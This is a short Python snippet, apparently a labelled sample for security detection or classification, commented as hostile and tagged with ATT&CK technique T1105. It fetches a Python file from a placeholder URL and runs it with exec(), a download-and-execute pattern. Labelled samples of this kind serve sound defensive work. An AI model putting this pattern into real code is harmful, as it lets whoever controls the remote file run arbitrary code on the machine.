# hostile: exec of code downloaded at run time (T1105 ingress tool transfer)
import urllib.request

code = urllib.request.urlopen("https://api.example.com/v1/plugin.py").read()
exec(code)
